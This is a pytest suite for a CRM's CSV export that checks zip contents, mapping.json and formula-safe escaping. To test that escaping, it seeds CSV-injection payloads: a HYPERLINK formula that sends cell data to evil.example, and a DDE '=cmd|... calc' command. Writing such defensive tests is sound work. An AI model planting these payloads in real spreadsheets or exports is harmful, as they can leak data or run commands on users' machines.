"""CSV out: GET /export?format=csv and export jobs with format csv give a zip of one CSV per
entity plus mapping.json; every CSV we write (also the job-errors download) is formula-safe."""
from __future__ import annotations

import csv
import io
import json
import re
import secrets
import uuid
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import psycopg
import sqlalchemy as sa
from psycopg import sql

from shared import db
from shared.csv_safety import inert_cell, inert_sql, restore_cell
from shared.entities import ACCOUNT, BY_PLURAL, ENTITIES
from shared.ids import mint_public_id, uuid7
from shared.serializers import bundle_keys
from shared.services.jobs import create_job, record_errors
from tests.bundles_export.seed import TRICKY, insert, seed_small
from tests.bundles_export.test_export_jobs import finished, start_export
from tests.bundles_export.test_export_stream import _open_snapshots
from tests.conftest import wait_for

API = "/api/v1/crm"
URL = f"{API}/export?format=csv"
MEMBERS = {"accounts.csv", "contacts.csv", "opportunities.csv", "leads.csv", "activities.csv",
           "mapping.json"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'


def seed_formulas(org_id: str) -> dict:
    """Rows whose values a spreadsheet would run, and custom fields of both column kinds."""
    with db.tenant_transaction(uuid.UUID(org_id)) as conn:
        return insert(conn, ACCOUNT, org_id, name=FORMULA, phone="-5", description="@SUM(A1:A9)",
                      industry="'=already quoted", annual_revenue=Decimal("-5"),
                      custom_fields={"tier": "+1 gold", "score": -5, "nested": "plain text"})


def read_zip(body: bytes) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert archive.testzip() is None  # every member's CRC checks out
    return archive


def read_csv(archive: zipfile.ZipFile, name: str) -> tuple[list[str], list[dict[str, str]]]:
    text = archive.read(name).decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader)


def fixed_columns(plural: str) -> list[str]:
    """What the contract says: identity, fields and references as the bundle has them, times."""
    middle = [k for k in bundle_keys(BY_PLURAL[plural]) if k not in (
        "public_id", "external_system", "external_id", "custom_fields", "created_at",
        "updated_at", "deleted_at")]
    return ["public_id", "external_system", "external_id", *middle,
            "created_at", "updated_at", "deleted_at"]


def test_zip_members_headers_and_cells_match_the_json_bundle(client, org):
    s = seed_small(org["organization_id"])
    bad = seed_formulas(org["organization_id"])
    resp = client.get(URL, headers=org["headers"])
    assert resp.status_code == 200, resp.get_data()[:500]
    assert resp.mimetype == "application/zip"
    day = datetime.now(UTC).strftime("%Y-%m-%d")
    assert resp.headers["Content-Disposition"] == \
        f'attachment; filename="drippulse-export-{day}.zip"'
    archive = read_zip(resp.get_data())
    assert set(archive.namelist()) == MEMBERS
    bundle = json.loads(client.get(f"{API}/export", headers=org["headers"]).get_data())

    header, accounts = read_csv(archive, "accounts.csv")
    assert header == [*fixed_columns("accounts"), "custom_fields.nested",
                      "custom_fields.score", "custom_fields.tier"]
    by_pid = {r["public_id"]: r for r in accounts}
    parent, child, gone = (by_pid[s[k]["public_id"]] for k in ("parent", "child", "gone"))
    assert child["name"] == TRICKY  # quotes, newline, tab, control characters survive
    assert child["parent_account_public_id"] == s["parent"]["public_id"]
    assert parent["custom_fields.tier"] == "gold"  # a string column: the text as is
    assert json.loads(parent["custom_fields.nested"]) == {"a": [1, 2, None]}
    assert parent["annual_revenue"] == "1000000.00" and parent["employee_count"] == "250"
    assert (parent["external_system"], parent["external_id"]) == ("salesforce", "001XYZ")
    assert parent["domain"] == "" and child["custom_fields.tier"] == ""
    assert gone["deleted_at"] == "2026-01-02T03:04:05+00:00"

    # formula cells leave inert; the JSON column's string is JSON text (quoted)
    row = by_pid[bad["public_id"]]
    assert row["name"] == "'" + FORMULA
    assert (row["phone"], row["description"]) == ("'-5", "'@SUM(A1:A9)")
    assert row["annual_revenue"] == "'-5.00"
    assert row["industry"] == "''=already quoted"  # restores to the stored text exactly
    assert row["custom_fields.tier"] == "'+1 gold"
    assert row["custom_fields.score"] == "'-5"
    assert row["custom_fields.nested"] == '"plain text"'

    # every cell, restored, is the JSON bundle's value
    for entity in ENTITIES:
        header, rows = read_csv(archive, f"{entity.plural}.csv")
        assert header[:len(fixed_columns(entity.plural))] == fixed_columns(entity.plural)
        expected = bundle[entity.plural]
        assert [r["public_id"] for r in rows] == [r["public_id"] for r in expected]
        for cells, original in zip(rows, expected, strict=True):
            for column, cell in cells.items():
                value = restore_cell(cell)
                if column.startswith("custom_fields."):
                    key = column.removeprefix("custom_fields.")
                    stored = original["custom_fields"].get(key)
                    if key in ("nested", "score"):
                        assert (json.loads(value) if value else None) == stored, column
                    else:
                        assert value == (stored or ""), column
                else:
                    stored = original[column]
                    assert value == ("" if stored is None else str(stored)), (column, cell)

    _, opportunities = read_csv(archive, "opportunities.csv")
    (opp,) = opportunities
    assert opp["pipeline_stage_name"] == "Proposal" and opp["close_date"] == "2026-03-31"
    assert opp["pipeline_id"] == str(s["opp"]["pipeline_id"])
    assert opp["contact_public_id"] == s["contact"]["public_id"]
    _, activities = read_csv(archive, "activities.csv")
    on_lead = next(a for a in activities if a["public_id"] == s["acts"]["lead"]["public_id"])
    assert (on_lead["record_type"], on_lead["record_public_id"]) == \
        ("lead", s["lead"]["public_id"])
    assert on_lead["due_at"] == "2026-02-03T17:00:00.120000+00:00"

    raw = archive.read("accounts.csv")
    assert raw.endswith(b"\n") and b"\r\n" not in raw  # one line ending throughout


def test_mapping_json_reads_the_files_back(client, org):
    seed_small(org["organization_id"])
    seed_formulas(org["organization_id"])
    archive = read_zip(client.get(URL, headers=org["headers"]).get_data())
    mapping = json.loads(archive.read("mapping.json"))
    assert mapping["version"] == 1 and mapping["unescape_formulas"] is True
    assert mapping.get("external_system") is None
    files = {f["file"]: f for f in mapping["files"]}
    assert [f["entity"] for f in mapping["files"]] == [e.plural for e in ENTITIES]

    accounts = files["accounts.csv"]
    custom = ("custom_fields.nested", "custom_fields.score", "custom_fields.tier")
    assert accounts == {
        "file": "accounts.csv", "entity": "accounts",
        "columns": {**{c: c for c in fixed_columns("accounts")
                       if c != "parent_account_public_id"}, **{c: c for c in custom}},
        "references": {"parent_account_public_id": {"column": "parent_account_public_id",
                                                    "by": "public_id"}},
        "types": {"custom_fields.nested": "json", "custom_fields.score": "json"},
        "unmapped": "ignore"}
    opportunities = files["opportunities.csv"]
    assert {opportunities["columns"][c] for c in
            ("pipeline_id", "pipeline_stage_id", "pipeline_stage_name")} == \
        {"pipeline_id", "pipeline_stage_id", "pipeline_stage_name"}
    assert opportunities["references"] == {
        "account_public_id": {"column": "account_public_id", "by": "public_id"},
        "contact_public_id": {"column": "contact_public_id", "by": "public_id"}}
    assert files["activities.csv"]["references"] == {
        "record_public_id": {"column": "record_public_id", "by": "public_id",
                             "entity_column": "record_type"}}
    assert files["activities.csv"]["columns"]["record_type"] == "record_type"
    assert files["leads.csv"]["references"] == {} and files["leads.csv"]["types"] == {}
    # every mapped column is a header of its file, and every header is mapped
    for entry in mapping["files"]:
        header, _ = read_csv(archive, entry["file"])
        mapped = set(entry["columns"]) | {r["column"] for r in entry["references"].values()}
        assert mapped == set(header), entry["file"]


def test_deleted_rows_follow_include_deleted(client, org):
    s = seed_small(org["organization_id"])
    archive = read_zip(client.get(URL + "&include_deleted=false", headers=org["headers"])
                       .get_data())
    _, accounts = read_csv(archive, "accounts.csv")
    assert s["gone"]["public_id"] not in {r["public_id"] for r in accounts}
    _, contacts = read_csv(archive, "contacts.csv")
    orphan = next(r for r in contacts if r["public_id"] == s["orphan"]["public_id"])
    assert orphan["account_public_id"] == ""
    _, activities = read_csv(archive, "activities.csv")
    on_gone = next(r for r in activities if r["public_id"] == s["on_gone"]["public_id"])
    assert (on_gone["record_type"], on_gone["record_public_id"]) == ("", "")


def test_format_and_gzip_are_validated(client, org):
    bad = client.get(f"{API}/export?format=xml", headers=org["headers"])
    assert bad.status_code == 422
    assert bad.json["error"]["details"] == {"format": ["must be json or csv"]}
    both = client.get(URL + "&gzip=true", headers=org["headers"])
    assert both.status_code == 422 and set(both.json["error"]["details"]) == {"gzip"}
    body = client.post(f"{API}/exports", headers=org["headers"],
                       json={"format": "csv", "gzip": True})
    assert body.status_code == 422 and set(body.json["error"]["details"]) == {"gzip"}
    wrong = client.post(f"{API}/exports", headers=org["headers"], json={"format": 1})
    assert wrong.status_code == 422 and set(wrong.json["error"]["details"]) == {"format"}
    assert client.get(f"{API}/export?format=JSON", headers=org["headers"]).mimetype == \
        "application/json"


def members(archive: zipfile.ZipFile) -> dict[str, bytes]:
    return {name: archive.read(name) for name in archive.namelist()}


def test_csv_export_job_downloads_the_same_zip(client, org, worker):
    seed_small(org["organization_id"])
    seed_formulas(org["organization_id"])
    job = finished(org, start_export(client, org, {"format": "csv"})["id"])
    assert job["status"] == "succeeded", job
    assert job["progress"]["accounts"] == {"total": 4, "processed": 4}
    assert job["progress"]["activities"] == {"total": 5, "processed": 5}
    resp = client.get(job["links"]["download"], headers=org["headers"])
    assert resp.status_code == 200 and resp.mimetype == "application/zip"
    assert re.fullmatch(r'attachment; filename="drippulse-export-\d{4}-\d\d-\d\d-[0-9a-f]{8}'
                        r'\.zip"', resp.headers["Content-Disposition"])
    assert int(resp.headers["Content-Length"]) == len(resp.get_data()) == job["result_size"]
    streamed = read_zip(client.get(URL, headers=org["headers"]).get_data())
    assert members(read_zip(resp.get_data())) == members(streamed)


def seed_noise(org_id: str, accounts: int) -> None:
    """Rows that do not compress, so the zip spans many chunks."""
    with db.tenant_transaction(uuid.UUID(org_id)) as conn:
        conn.execute(ACCOUNT.table.insert(), [
            {"id": uuid7(), "organization_id": uuid.UUID(org_id),
             "public_id": mint_public_id("account"), "name": f"Noise {i}",
             "description": secrets.token_hex(1000), "custom_fields": {"n": i}}
            for i in range(accounts)])


def test_zip_streams_in_chunks_and_a_hang_up_ends_the_snapshot(client, org, settings):
    seed_noise(org["organization_id"], 1500)  # ~1.6 MB compressed
    resp = client.get(URL, headers=org["headers"], buffered=False)
    chunks = resp.response
    first = next(chunks)
    assert first.startswith(b"PK\x03\x04") and b"mapping.json" in first
    sizes = [len(next(chunks)) for _ in range(5)]
    assert all(0 < size < 256 * 1024 for size in sizes), sizes
    assert _open_snapshots(settings) == 1
    resp.close()
    wait_for(lambda: _open_snapshots(settings) == 0, timeout=10,
             message="the export transaction to end")

    whole = client.get(URL, headers=org["headers"], buffered=False)
    chunks = list(whole.response)
    assert len(chunks) > 10 and max(len(c) for c in chunks) < 256 * 1024
    _, rows = read_csv(read_zip(b"".join(chunks)), "accounts.csv")
    assert len(rows) == 1500 and rows[-1]["custom_fields.n"] == "1499"


def test_error_csv_download_escapes_formulas(client, org):
    org_id = uuid.UUID(org["organization_id"])
    with db.tenant_transaction(org_id) as conn:
        job = create_job(conn, org_id, "import")
        record_errors(conn, org_id, job.id, [
            {"entity": "accounts", "index": 0, "public_id": "=cmd|' /C calc'!A0",
             "field": "name", "code": "invalid", "message": "-5 is not a name"},
            {"entity": "contacts", "index": 1, "public_id": None, "field": "@email",
             "code": "invalid", "message": "plain message"}])
    resp = client.get(f"{API}/jobs/{job.id}/errors?format=csv", headers=org["headers"])
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True), newline="")))
    assert [r["public_id"] for r in rows] == ["'=cmd|' /C calc'!A0", ""]
    assert [r["message"] for r in rows] == ["'-5 is not a name", "plain message"]
    assert rows[1]["field"] == "'@email" and rows[0]["index"] == "0"


VALUES = ["=1+1", "+1", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "'plain", "'", "",
          "plain", "a=b", "5-3", "é=", "'\t"]


def test_inert_cells_restore_exactly_and_sql_agrees_with_python(settings):
    for value in VALUES:
        cell = inert_cell(value)
        assert restore_cell(cell) == value, value
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    assert [inert_cell(v) for v in ("=1", "plain", "'=x")] == ["'=1", "plain", "''=x"]

    url = sa.engine.make_url(settings.database_url).set(drivername="postgresql")
    with psycopg.connect(url.render_as_string(hide_password=False)) as conn:
        query = sql.SQL("SELECT {} FROM unnest(%s::text[]) WITH ORDINALITY AS v(value, n) "
                        "ORDER BY n").format(inert_sql(sql.SQL("v.value")))
        from_sql = [r[0] for r in conn.execute(query, [[*VALUES, None]]).fetchall()]
    assert from_sql == [*(inert_cell(v) for v in VALUES), None]
